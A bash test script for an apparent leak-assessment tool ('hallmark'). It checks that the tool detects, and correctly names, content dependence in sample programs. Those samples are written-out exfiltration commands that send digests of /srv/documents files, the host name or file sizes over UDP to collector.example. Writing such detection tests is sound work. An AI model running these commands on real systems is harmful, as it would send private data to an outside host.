#!/bin/bash
# An experiment with a program that sends a digest of a document in a field of its own, and with its twin, which sends a
# constant there: the first depends on content, and the findings say which field; nothing of the second does. Both bundles are
# verified, every document made again from the seed.
#
# By chance it fails less than once in 10,000 runs. The digest is new in each of 10 screening blocks, so only features that differ in all
# and in no A/A block could go before it, and 16 of them. What differs by itself here is the nonce, where it is not made equal: its length does in 0.44 of
# blocks, so in no A/A block and in all of the screening in 0.56^8 0.44^10 = 0.000003. That it is confirmed needs all 8 confirming blocks to agree: 0.44^8 2^-7 = 0.00001.
#   experiment.sh BUILD
set -u
hallmark=$(realpath "$1/hallmark") verify=$(realpath "$1/hallmark-verify")
. "$(dirname "$0")/../support/chamber.sh" experiment
"$hallmark" keygen "$work/key.pem" >/dev/null || exit 1
# One write, and so one datagram: what comes through a pipe line by line is read in one go or in two.
send='value=$(%s); printf -v text "Op: report\nValue: %%s\nNonce: %%s" "$value" "$RANDOM"; cat <<<"$text" >/dev/udp/collector.example/9000'
leak=$(printf "$send" "rev /srv/documents/note* | md5sum | cut -c 1-16")
twin=$(printf "$send" "wc -c </srv/documents/note*")
assess() { # NAME COMMAND
	timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
}
ask() { # NAME EXPRESSION: of the findings `f`, must be true
	/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
content = next(c for c in f['claims'] if c['id'] == 'collect.content')
whole = lambda row: row['constant'] + row['explained'] + row['unaccounted'] + sum(i['bytes'] for i in row['influenced'])
sys.exit(0 if $2 else 1)" "$work/$1.json"
}
verified() { "$verify" "$work/$1.hallmark" --key "$work/key.pem.pub" >"$work/said" && false || ! grep -q FALSE "$work/said" && grep -q 'sets, made again from the seed' "$work/said"; }

assess leak "$leak"
result "$([ $? = 1 ]; echo $?)" "a leak is refuted"
sed 's/^/# /' "$work/leak.err" | head -n 5
ask leak "content['reason'] == 'influence.confirmed' and content['values']['features'] == 1"
result $? "... by a confirmed influence"
ask leak "[(i['factor'], i['endpoint'], i['feature'], i['grade']) for i in f['influence']] == [('content', 'collector.example:9000/udp', '0.0.line.value', 'dependent')]"
result $? "... and by the name of the field, of nothing else"
ask leak "(lambda p: p['b'] == 0 and p['m'] == 255 and p['family'] <= 1 and p['phase'] == 'confirm')(f['influence'][0]['p'])"
result $? "... with the least p that eight pairs can have, and what else was tested allows that"
ask leak "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
result $? "... every byte stands in one class"
verified leak
result $? "... its bundle verifies, documents and findings made again"

assess twin "$twin"
ask twin "[c['id'] for c in f['claims'] if c['verdict'] == 'refuted'] == ['collect.encrypted']"
result $? "of its twin nothing is refuted but that it is encrypted"
sed 's/^/# /' "$work/twin.err" | head -n 5
ask twin "content['verdict'] == 'upheld' and content['reason'] == 'nothing.depends' and content['bound']['pairs'] == 8 and not f['influence']"
result $? "... nothing depends on content, and its nonce is explained"
ask twin "all(whole(row) == row['wire'] for row in f['ledger']) and f['ledger']"
result $? "... every byte stands in one class"
verified twin
result $? "... its bundle verifies"

# Of collect.host one factor alone is varied: enough to refute it, not to uphold it.
name='printf -v text "Op: hello\nName: %s" "$(uname -n | md5sum | cut -c 1-16)"; cat <<<"$text" >/dev/udp/collector.example/9000'
timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors host.name,metadata.owner --json -o "$work/host.hallmark" -- bash -c "$name" \
	>"$work/host.json" 2>"$work/host.err"
result "$([ $? = 1 ]; echo $?)" "who sends a digest of the host's name is refuted"
/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
claims = {c['id']: c for c in f['claims']}
untested = {c['id']: c['reason'] for c in f['not_tested']}
sys.exit(0 if claims['collect.host']['reason'] == 'influence.confirmed' and untested['collect.metadata'] == 'needs experiment' else 1)" "$work/host.json"
result $? "... by one factor; a claim of which one factor alone shows nothing is not tested"

# A size cannot change while content stays: a digest of what a file says tells nobody of its size, and a number of bytes beside it does.
sizes() { # NAME COMMAND WANTED
	timeout 400 "$hallmark" assess --key "$work/key.pem" --pairs 8 --factors content,metadata --json -o "$work/$1.hallmark" -- bash -c "$2" >"$work/$1.json" 2>"$work/$1.err"
	/usr/bin/python3 -c "
import json, sys
f = json.load(open(sys.argv[1]))
print('#', [(c['id'], c['verdict'], c['reason'], c['values']) for c in f['claims'] if c['id'] in ('collect.content', 'collect.metadata')])
claims = {c['id']: c for c in f['claims']}
sys.exit(0 if claims['collect.content']['verdict'] == 'refuted' and (claims['collect.metadata']['verdict'], claims['collect.metadata']['reason']) == ($3) else 1)" "$work/$1.json"
}
digest='printf -v text "Op: hello\nName: %s" "$(md5sum <{target}/note*)"; cat <<<"$text" >/dev/udp/collector.example/9000'
sizes digest "$digest" "'not verifiable', 'content.inseparable'"
result $? "who sends a digest of content is not said to tell sizes, nor not to"
sizes size "$digest; printf -v text 'Op: hello\nSize: %s' \"\$(stat -c %s {target}/note*)\"; cat <<<\"\$text\" >/dev/udp/collector.example/9001" "'refuted', 'influence.confirmed'"
result $? "... and who sends the size, too, is"

for bad in "--pairs 6" "--pairs x" "--factors content" "--pairs 8 --factors nonsense" "--pairs 1000 --factors content,marking,sample" "--pairs 8 --factors content,content" "--pairs 8 --factors host.kernel"; do
	# shellcheck disable=SC2086
	"$hallmark" assess --key "$work/key.pem" $bad -o "$work/bad.hallmark" -- true >/dev/null 2>"$work/err"
	result "$([ $? = 3 ] && [ "$(wc -l <"$work/err")" = 1 ] && [ ! -e "$work/bad.hallmark" ]; echo $?)" "$bad is refused"
done
echo "1..$n"
exit $failed
